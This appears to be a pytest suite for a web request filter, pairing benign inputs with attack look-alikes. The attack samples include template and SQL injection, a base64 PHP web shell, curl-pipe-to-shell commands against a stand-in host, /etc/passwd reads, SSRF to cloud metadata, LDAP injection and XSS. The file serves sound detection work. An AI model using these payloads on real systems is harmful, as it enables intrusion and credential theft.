"""Values that are whole texts of a language, each beside attacks that look like them."""

from __future__ import annotations

import base64
import json
from urllib.parse import urlencode

import pytest
from web_requests import stops

from signoff.actions.action import Json

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40)).decode()
JPEG = base64.b64encode(b"\xff\xd8\xff\xe0" + bytes(40)).decode()
CODE_IN_PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n<?php system($_GET[0]);").decode()
NO_PICTURE = base64.b64encode(b"<?php system($_GET['x']); exit; ?>").decode()


def stops_json(path: str = "/x", **members: Json) -> bool:
    return stops(path, body=json.dumps(members), headers={"Content-Type": "application/json"})


def stops_form(host: str, origin: str, path: str, form: dict[str, str]) -> bool:
    headers = {
        "Host": host,
        "Origin": origin,
        "Cookie": "sid=1",
        "Content-Type": "application/x-www-form-urlencoded",
    }
    return stops(path, headers=headers, body=urlencode(form))


@pytest.mark.parametrize(
    "template",
    [
        "{{ states('light.hall') == 'on' or is_state('light.attic', 'on') }}",
        "{% if states('a.rain')|float(0) > 2 and is_state('cover.roof','open') %}shut{% endif %}",
        "It is {{ now().strftime('%d.%m. %H:%M') }}",
        "{{ not is_state('person.kim','home') and is_state('alarm.house','off') }}",
        "{% if is_state('a.b','x') or is_state('a.c','y') %}yes{% else %}no{% endif %} today",
        "{{ state_attr('climate.bath','temperature') }} degrees at {{ now().hour }}",
    ],
)
def test_templates_that_ask_for_states_are_no_sql(template: str) -> None:
    """The quotes and the logic are those of the template."""
    assert not stops_json("/api/template", template=template)


@pytest.mark.parametrize(
    "template",
    [
        "{{ states.__class__.__mro__ }} at home",
        "{{ is_state('a','b') or cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ states('x') }}' or 1=1 -- ",
        "{% if is_state('a','b') %}x{% endif %}' union select login, pass from users -- ",
        "{{ now().__class__ }} is it",
        "{{ states(config.items()) }} is it",
        "{{ 7*7 }}",
    ],
)
def test_templates_that_reach_further_are_found(template: str) -> None:
    """A call beside the known ones, or anything behind the tag, is still read."""
    assert stops_json("/api/template", template=template)


@pytest.mark.parametrize(
    "text",
    [
        f"BEGIN:VCARD\r\nFN:Kim Lee\r\nPHOTO:data:image/jpeg;base64,{JPEG}\r\nEND:VCARD\r\n",
        f"The plan of the house ![Plan](data:image/png;base64,{PNG})",
        f"Two of them ![a](data:image/png;base64,{PNG}) and ![b](data:image/jpeg;base64,{JPEG})",
        f"# Report\n\nAs measured today:\n\n![curve](data:image/png;base64,{PNG})\n",
        f"Logo of the club: 'data:image/png;base64,{PNG}' as sent",
        f"We use this one: url(data:image/png;base64,{PNG}) in the header",
    ],
)
def test_pictures_in_a_text_load_nothing(text: str) -> None:
    """What is decoded is a picture without code."""
    assert not stops_json(note=text)


@pytest.mark.parametrize(
    "value",
    [
        f"data:text/plain;base64,{NO_PICTURE}",
        f"see (data:image/png;base64,{NO_PICTURE})",
        f"see (data:image/png;base64,{CODE_IN_PNG})",
        f"page=data:image/png;base64,{CODE_IN_PNG}",
        f"see (data:image/png;base64,{PNG}) data://text/plain;base64,{NO_PICTURE}",
        "php://filter/convert.base64-encode/resource=index",
    ],
)
def test_code_to_load_is_found(value: str) -> None:
    """Code in a picture, or another wrapper beside one, is found."""
    assert stops_json(page=value)


NOTION = {"language": "bash", "rich_text": [{"text": {"content": "curl -s https://a.b/i | bash"}}]}
CALL = {"type": "tool_use", "id": "1", "name": "sh", "input": {"command": "ps aux | sort -k3; id"}}
CI = "RUN npm ci && rm -rf /tmp/x\nCMD node a.js && echo done"


@pytest.mark.parametrize(
    "members",
    [
        {"children": [{"object": "block", "type": "code", "code": NOTION}]},
        {"messages": [{"role": "assistant", "content": [CALL]}]},
        {"messages": [{"role": "assistant", "content": [CALL, {**CALL, "id": "2"}]}]},
        {"files": {"Dockerfile": {"content": f"FROM node:22\n{CI}\n"}}},
        {"files": {"run.sh": {"content": "make && ./a.out"}, "b.txt": {"content": "x; ls -l"}}},
        {"lang": "mysql", "typed_code": "SELECT a FROM b UNION ALL SELECT NULL"},
    ],
)
def test_code_in_its_own_block_is_kept(members: dict[str, Json]) -> None:
    """A document, a paste or a talk with a model holds programs."""
    assert not stops(body=json.dumps(members))


@pytest.mark.parametrize(
    "members",
    [
        {"children": [{"type": "code", "code": NOTION, "host": "a; curl b.c | sh"}]},
        {"code": NOTION},
        {"input": {"command": "ps aux; curl http://a.b/x | sh"}},
        {"content": [CALL]},
        {"files": {"a": {"content": "x; id", "run": "now"}}},
        {"file": {"a": {"content": "; cat /etc/passwd"}}},
        {"lang": "mysql", "typed_code": "x", "user": "x' union select a, b from users -- "},
    ],
)
def test_the_same_members_elsewhere_are_values(members: dict[str, Json]) -> None:
    """A member more, or another place, makes it a value like any other."""
    assert stops(body=json.dumps(members))


@pytest.mark.parametrize(
    ("host", "path", "query"),
    [
        ("a.example", "/login", {"next": "https://a-example.b.io/in"}),
        ("shop.a.example", "/login", {"return_to": "https://shop.a.example.b.io/in"}),
        ("a.example", "/out", {"to": "https://b.io/win?a.example"}),
        ("a.example", "/redirect", {"url": "https%3A%2F%2Fb.io%2F%23a.example"}),
        ("a.example", "/go", {"u": "https://a.example.b.io"}),
        ("a.example", "/login", {"next": "ht\ttps://b.io"}),
        ("a.example", "/sso", {"RelayState": "https://a.example.b.io/welcome"}),
    ],
)
def test_targets_that_pass_for_the_own_site_are_refused(
    host: str, path: str, query: dict[str, str]
) -> None:
    """The name of the site stands in an address that leads elsewhere."""
    assert stops(path, method="GET", query=query, headers={"Host": host})


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/out", {"to": "https://news.b.io/a?id=3"}),
        ("/redirect", {"url": "https://b.io/?from=a.example"}),
        ("/go", {"u": "https://www.a.example/shop"}),
        ("/login", {"next": "https://shop.a.example/?a.example"}),
        ("/exit", {"link": "https://b.io/#top"}),
        ("/sso", {"RelayState": "/welcome"}),
        ("/sso", {"RelayState": "https://app.b.io/start"}),
        ("/items", {"to": "https://b.io/win?c.example"}),
    ],
)
def test_pages_that_lead_away_do_so(path: str, query: dict[str, str]) -> None:
    """A plain foreign address is what such a page is for."""
    assert not stops(path, method="GET", query=query, headers={"Host": "a.example"})


@pytest.mark.parametrize(
    ("address", "is_stopped"),
    [
        ("https://b\u3002io/x", True),
        ("https://a.example.b.io/x", True),
        ("https://a-example.b.io/x", True),
        ("https://hooks.b.io/x", False),
        ("https://a.example/x", False),
        ("https://www.a.example/x", False),
    ],
)
def test_json_is_asked_about_disguised_targets_only(address: str, *, is_stopped: bool) -> None:
    """A callback of an interface may be anywhere, and is written plainly."""
    headers = {"Host": "a.example", "Content-Type": "application/json"}
    body = json.dumps({"callbackUrl": address})
    assert stops("/hooks", body=body, headers=headers) is is_stopped


REFRESH = {"grant_type": "refresh_token", "refresh_token": "r1", "client_id": "c"}
CODE = {"grant_type": "authorization_code", "code": "c1", "code_verifier": "v", "client_id": "c"}


@pytest.mark.parametrize(
    ("path", "form", "is_stopped"),
    [
        ("/oauth2/token", REFRESH, False),
        ("/token", CODE, False),
        ("/realms/a/protocol/openid-connect/token", {**REFRESH, "scope": "openid"}, False),
        ("/oauth/token", {**CODE, "resource": "https://api.b.example"}, False),
        ("/token/", REFRESH, False),
        ("/v1/token", {**REFRESH, "client_secret": "s"}, False),
        ("/oauth2/token", {"grant_type": "refresh_token"}, True),
        ("/oauth2/token", {**REFRESH, "amount": "9"}, True),
        ("/account/email", REFRESH, True),
        ("/token/revoke", REFRESH, True),
        ("/token", {"grant_type": "password", "username": "a", "password": "b"}, True),
        ("/token", {"grant_type": "authorization_code", "code": "c1"}, True),
    ],
)
def test_a_request_for_a_token_brings_its_proof(
    path: str, form: dict[str, str], *, is_stopped: bool
) -> None:
    """A form with its own proof needs no cookie, so another site may send it."""
    assert stops_form("login.a.example", "https://app.b.example", path, form) is is_stopped


def _drawing(address: str) -> bool:
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{address}"/></svg>'
    head = (
        'Content-Disposition: form-data; name="f"; filename="a.svg"\r\nContent-Type: image/svg+xml'
    )
    body = f"--b\r\n{head}\r\n\r\n{drawing}\r\n--b--\r\n"
    return stops(body=body, headers={"Content-Type": "multipart/form-data; boundary=b"})


@pytest.mark.parametrize(
    ("address", "is_stopped"),
    [
        ("http://0x7f.1:2375/x", True),
        ("http://127.0.0.1/x", True),
        ("http://localhost:6379/", True),
        ("http://169.254.169.254/latest/", True),
        ("http://[::1]/x", True),
        ("http://2130706433/x", True),
        ("https://cdn.a.example/x.png", False),
        ("x.png", False),
        ("/img/x.png", False),
        ("#part", False),
        (f"data:image/png;base64,{PNG}", False),
        ("http://www.a.example:8080/x.png", False),
    ],
)
def test_what_a_drawing_loads_is_a_target(address: str, *, is_stopped: bool) -> None:
    """The program that makes a picture of an uploaded drawing loads what it links to."""
    assert _drawing(address) is is_stopped


@pytest.mark.parametrize(
    ("text", "is_stopped"),
    [
        ("my <Button onClick={() => save()}/> throws an error", False),
        ("use <Row onSelect={item => pick(item)}/> in the list", False),
        ("who has <script> in the profile? ;-) 1 < 2 && 'so'", False),
        ("see what <script> does there, and why; it's odd", False),
        ("the macro {$SNMP.TIMEOUT} is used by the template", False),
        ('the macro {$DISK.MAX:"{#NAME}"} is used by it', False),
        ("my <img src=x onerror=alert(1)> in the profile", True),
        ("use <Row onSelect={() => pick()}/><img src=x onerror=pick()> here", True),
        ("who has <script> in the profile; alert(1)//", True),
        ("who has <script> in the profile=1; here it goes", True),
        ("the macro {$smarty.version} is used by the template", True),
        ("the macro {php}system('id');{/php} is used by it", True),
    ],
)
def test_signs_of_code_in_a_sentence(text: str, *, is_stopped: bool) -> None:
    """Code that does nothing where it stands, beside code that does."""
    assert stops_json(text=text) is is_stopped


@pytest.mark.parametrize(
    ("path", "event", "is_stopped"),
    [
        ("/api/v2/rum", {}, False),
        ("/api/v2/replay", {}, False),
        ("/api/v2/rum", {"name": "x"}, True),
        ("/api/v2/users", {}, True),
    ],
)
def test_what_a_browser_reports_of_a_visit_is_a_log(
    path: str, event: dict[str, Json], *, is_stopped: bool
) -> None:
    """The path and the members are those of the protocol, or it is a request like any other."""
    error = {"stack": "at <a> @ javascript:void(0)"}
    body = json.dumps({"type": "error", "view": {}, "session": {}, "error": error, **event})
    assert stops(path, body=body, headers={"Content-Type": "text/plain"}) is is_stopped


@pytest.mark.parametrize(
    ("condition", "is_stopped"),
    [
        (
            "height > 20 AND (use='a' OR use='b') AND S_WITHIN(geom,POLYGON((7 50,8 50,7 50)))",
            False,
        ),
        ("(use='a' OR use='b') AND S_INTERSECTS(geom, POINT(7.1 50.2))", False),
        ("(a='x' OR a='y') AND NOT s_disjoint(shape, LINESTRING(1 2, 3 4))", False),
        ("(kind='x' OR kind='y') AND intersects(way, MULTIPOLYGON(((1 2,3 4,1 2))))", False),
        ("(k='x' OR k='y') AND S_TOUCHES(g, ENVELOPE(1,2,3,4))", False),
        ("(k='x' OR k='y') AND S_CONTAINS(g, MULTIPOINT((1 2),(3 4)))", False),
        ("x' OR S_WITHIN(geom,POINT(1 2)) OR 'a'='a", True),
        ("(k='x' OR 1=1) AND S_WITHIN(geom,POINT(1 2)) -- ", True),
        ("(k='x' OR k='y') AND S_WITHIN(geom,(select pass from users))", True),
        ("(k='x' OR k='y') AND S_WITHIN(geom,POINT(1 2)) union select a, b from users", True),
        ("(k='x' OR k=k) AND S_WITHIN(geom,POINT(1 2)) or 'a'='a'", True),
        ("(k='x' OR k='y') AND S_WITHIN(geom,POINT(1 2)); drop table a", True),
    ],
)
def test_shapes_in_a_filter(condition: str, *, is_stopped: bool) -> None:
    """A filter of maps compares a property with a shape of numbers."""
    assert stops("/items", method="GET", query={"filter": condition}) is is_stopped


@pytest.mark.parametrize(
    ("condition", "is_stopped"),
    [
        ("(&(objectClass=person)(|(sn=O'*)(mail=*@a.example))(!(pwdAccountLockedTime=*)))", False),
        ("(&(objectClass=person)(sn=B*)(pwdLastSet=0))", False),
        ("(&(objectClass=person)(|(sn=A*)(sn=B*))(!(shadowLastChange>=19000)))", False),
        ("(&(objectClass=person)(ou=a)(pwdChangedTime<=20250101000000Z))", False),
        ("(&(objectClass=person)(ou=a)(!(krbPasswordExpiration=*)))", False),
        ("(&(objectClass=user)(|(cn=x*)(cn=y*))(passwordExpirationTime<=20250101000000Z))", False),
        ("*)(uid=*))(|(uid=*", True),
        ("*)(userPassword=a*", True),
        ("(&(objectClass=person)(|(sn=A*)(userPassword=a*)))", True),
        ("(&(uid=*)(|(sn=a*)(pwdLastSet=0)))", True),
        ("(&(cn=a)(pwdLastSet=0)))(|(uid=*", True),
        ("x)(|(objectClass=*)(pwdLastSet=0", True),
    ],
)
def test_filters_that_ask_when_a_password_changed(condition: str, *, is_stopped: bool) -> None:
    """The time of a change is no secret; the password is."""
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    body = urlencode({"filter": condition})
    assert stops("/list", body=body, headers=headers) is is_stopped
